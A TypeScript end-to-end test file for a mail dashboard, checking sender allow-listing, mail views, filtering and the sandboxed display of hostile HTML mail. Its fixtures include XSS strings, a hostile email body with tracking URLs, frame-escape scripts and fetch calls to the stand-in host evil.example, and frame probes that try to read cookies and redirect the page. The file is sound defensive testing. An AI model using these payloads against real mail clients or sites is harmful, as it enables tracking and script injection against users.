/** The pages about mails, in a real Chromium over the real server. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Page, screenshot } from '../support/browser.ts';
import { type Dashboard, expectReadable, openDashboard } from '../support/dashboard.ts';
import { eventually } from '../support/eventually.ts';
import { answerTo } from '../support/mail.ts';

const TO = 'scout@tinyfat.localhost';
const MIRA = 'mira@harbour.example';
const SCRIPT = '<script>window.broken=1</script><img src=x onerror="window.broken=2">';
const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Everything in it would tell somebody that it was opened, or reach the page around it. */
const HOSTILE = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"; p{background:url(https://evil.example/c)}</style></head>
<body background="https://evil.example/d" onload="parent.document.title='owned'"><p style="background-image:url('https://evil.example/e')">Dear scout</p>
<img src="https://evil.example/f.png" alt="Offer"><img src="cid:logo" alt="Logo"><svg><image href="https://evil.example/g"/></svg>
<video poster="https://evil.example/h"></video><iframe src="https://evil.example/i"></iframe><form action="https://evil.example/j"><button>Win</button></form>
<script>parent.document.title='owned';fetch('https://evil.example/k')</script>
<a href="javascript:parent.document.title='owned'">bad</a> <a href="https://harbour.example/news">news</a></body></html>`;

describe('the pages about mails', () => {
  let dashboard: Dashboard;
  beforeAll(async () => {
    dashboard = await openDashboard({ agents: { scout: [], billing: [] } });
  });
  afterAll(() => dashboard?.dispose());

  const send = (subject: string, more: object = {}) =>
    answerTo(dashboard.server, {
      envelope: { from: MIRA, to: TO },
      from: `Mira Holm <${MIRA}>`,
      to: TO,
      subject,
      text: 'What changed in the port rules?',
      ...more,
    });
  const open = async (page: Page, subject: string) => {
    await page.goto('/mails');
    await page.getByRole('link', { name: subject }).first().click();
    await page.getByRole('heading', { level: 1, name: subject }).waitFor();
    await page.waitForLoadState();
  };
  const show = async (page: Page, view: string) => {
    const tabs = page.getByRole('navigation', { name: 'Views of the mail' });
    await tabs.getByRole('link', { name: view }).click();
    await tabs.locator('[aria-current]', { hasText: view }).waitFor();
  };
  const notice = (page: Page) => page.locator('main [role=status], main [role=alert]');

  it('lead a sender from refused to allowed to answered, by clicking', async () => {
    expect((await send('Port rules')).code).toBe(550);
    await dashboard.visit(async (page) => {
      await open(page, 'Port rules');
      await expectReadable(page);
      await screenshot(page, 'mail-refused');
      expect(await page.locator('main .notice').textContent()).toContain('Refused');
      await page.getByRole('button', { name: `Allow ${MIRA}` }).click();
      expect(await notice(page).textContent()).toContain('The sender is on the list now');
    });
    expect((await send('Port rules again')).code).toBe(250);
    // The mail lies in the Maildir before its row says so.
    await eventually(async () => (await dashboard.server.json(['mails', 'scout']))[0]).toMatchObject({
      subject: 'Port rules again',
      state: 'replied',
    });
    await dashboard.visit(async (page) => {
      await open(page, 'Port rules again');
      const steps = page.locator('.timeline > li');
      expect(await steps.allTextContents()).toEqual([
        expect.stringContaining('It came by SMTP'),
        expect.stringContaining('is allowed by'),
        expect.stringContaining('put in line'),
        expect.stringMatching(/The turn was done.*took/s),
        expect.stringMatching(/The answer to mira@harbour\.example was handed to/),
      ]);
      await page.getByText('From a trusted machine').click();
      expect(await page.locator('details[open]').textContent()).toContain('whose mail is taken as it is');
      await expectReadable(page);
      await screenshot(page, 'mail-answered');
      for (const [view, words] of [
        ['Text', 'What changed in the port rules?'],
        ['Headers', 'Message-ID'],
        ['Parts', 'text/plain'],
        ['Source', 'Subject: Port rules again'],
      ] as const) {
        await show(page, view);
        expect(await page.locator('.message').textContent()).toContain(words);
        await expectReadable(page);
      }
    });
  });

  it('show a hostile mail in a frame from which nothing leaves, and its scripts as text', async () => {
    expect(
      (
        await send(SCRIPT, {
          from: { name: SCRIPT, address: MIRA },
          text: SCRIPT,
          html: HOSTILE,
          attachments: [
            { filename: 'logo.png', cid: 'logo', content: PNG, encoding: 'base64' },
            { filename: `${SCRIPT}.html`, content: SCRIPT },
          ],
        })
      ).code,
    ).toBe(250);
    // Whatever is asked for elsewhere fails the visit (`withPage`).
    await dashboard.visit(async (page) => {
      await page.goto('/mails');
      expect(await page.locator('.rows').textContent()).toContain(SCRIPT);
      await page.locator('.rows .row-main > a').first().click();
      const frame = page.frameLocator('iframe');
      await frame.getByText('Dear scout').waitFor();
      const inside = page.frames().find((one) => one.url().endsWith('/view'));
      await inside?.waitForLoadState();
      expect(await frame.locator('.note').textContent()).toContain('2 pictures are not shown');
      expect(await frame.locator('img').count()).toBe(1);
      expect(
        await frame
          .locator('script, style:not(head style), form, iframe, svg, video, base, meta[http-equiv]')
          .count(),
      ).toBe(0);
      // An origin of its own: it can not read the page around it, nor its own cookies.
      expect(await inside?.evaluate('self.origin')).toBe('null');
      expect(await inside?.evaluate('document.images[0].naturalWidth')).toBe(1);
      expect(await page.title()).toContain(SCRIPT);
      expect(await page.evaluate("'broken' in window")).toBe(false);
      const link = frame.getByRole('link', { name: 'news' });
      expect(await link.getAttribute('rel')).toContain('noopener noreferrer');
      expect(await link.getAttribute('target')).toBe('_blank');
      expect(await frame.getByRole('link', { name: 'bad' }).count()).toBe(0);
      await screenshot(page, 'mail-hostile');
      for (const view of ['Text', 'Headers', 'Parts', 'Source']) {
        await show(page, view);
        expect(await page.evaluate("'broken' in window")).toBe(false);
      }
      await show(page, 'Parts');
      const download = page.waitForEvent('download');
      await page.getByRole('link', { name: /Download .*\.html/ }).click();
      expect((await download).suggestedFilename()).toMatch(/\.html$/);
    });
  });

  it('hold a frame that lets nothing out, whatever ran in it', async () => {
    const reached: unknown[] = [];
    const visit = dashboard.visit(async (page) => {
      await open(page, 'Port rules again');
      await page.frameLocator('iframe').getByText('What changed').waitFor();
      const inside = page.frames().find((one) => one.url().endsWith('/view'));
      const blocked = page.waitForEvent('console', (message) => message.text().includes('/image'));
      for (const attempt of [
        'parent.document.title',
        'parent.location.href',
        'document.cookie',
        'localStorage.length',
        "top.location.assign('https://evil.example/top')",
      ])
        reached.push(
          await inside?.evaluate(
            `(() => { try { ${attempt}; return '${attempt[0]}'; } catch { return null; } })()`,
          ),
        );
      await inside?.evaluate(`fetch('https://evil.example/fetch'); fetch('/api/v1/mails'); null`);
      await inside?.evaluate(`new Image().src = 'https://evil.example/image'; null`);
      await blocked;
    });
    // The browser writes to its console what the policy has stopped; what had left would be a foreign request.
    const complaints = String(await visit.catch((error: unknown) => error));
    expect(reached).toEqual([null, null, null, null, null]);
    expect(complaints).toContain('Content Security Policy');
    expect(complaints).not.toContain('foreign request');
  });

  it('are framed by our own pages alone, and shown to their owner alone', async () => {
    const cookie = await dashboard.signIn('owner@example.com');
    const [{ id }] = await dashboard.server.json(['mails', 'scout']);
    const get = (path: string, headers: Record<string, string>) =>
      fetch(`${dashboard.origin}/mails/${id}${path}`, { headers, redirect: 'manual' });
    const answer = await get('/view', { cookie });
    expect(answer.headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(answer.headers.get('content-security-policy')).toMatch(
      /^sandbox allow-popups[^;]*; default-src 'none'/,
    );
    await answer.body?.cancel();
    for (const path of ['', '/view', '/parts/1']) expect((await get(path, {})).status).toBe(303);
    await dashboard.server.cli(['agent', 'create', 'other', '--owner', 'stranger@example.com']);
    const stranger = await dashboard.signIn('stranger@example.com');
    for (const path of ['', '/view', '/parts/1', '?view=text', '?view=source'])
      expect((await get(path, { cookie: stranger, accept: 'text/html' })).status).toBe(404);
  });

  it('filter by the URL, and are read without scripts', async () => {
    await dashboard.visit(
      async (page) => {
        await page.goto('/mails');
        await page.getByLabel('State').selectOption('refused');
        await page.getByLabel('Sender').fill('MIRA+x@harbour.example');
        await page.getByRole('button', { name: 'Filter' }).click();
        await page.waitForLoadState();
        expect(new URL(page.url()).searchParams.get('state')).toBe('refused');
        expect(await page.locator('.rows .row-main > a').allTextContents()).toEqual(['Port rules']);
        await page.goto('/mails?agent=billing');
        expect(await page.locator('.empty').textContent()).toContain('No mail is like that');
        await page.goto('/mails?sender=nobody');
        expect(await notice(page).textContent()).toContain('Sender: The address has no @.');
        expect(await page.getByLabel('Sender').inputValue()).toBe('nobody');
        await page.goto('/mails?to=2001-01-01');
        expect(await page.locator('.rows').count()).toBe(0);
      },
      { javaScript: false },
    );
  });
});
